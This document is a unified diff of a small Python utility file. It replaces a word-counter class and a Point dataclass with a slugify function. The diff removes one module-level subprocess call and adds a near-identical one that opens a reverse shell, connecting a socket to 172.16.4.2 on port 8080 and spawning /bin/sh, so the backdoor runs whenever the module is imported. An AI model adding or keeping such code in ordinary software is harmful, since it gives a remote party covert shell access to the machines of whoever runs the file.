@@ -1,19 +1,5 @@
-#!/usr/bin/env python3
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
 import subprocess
-subprocess.run(["python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("172.16.4.2",31337));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'])
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+subprocess.run(["python3", "-c", 'import socket,os,pty;s=socket.socket();s.connect(("172.16.4.2",8080));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'])
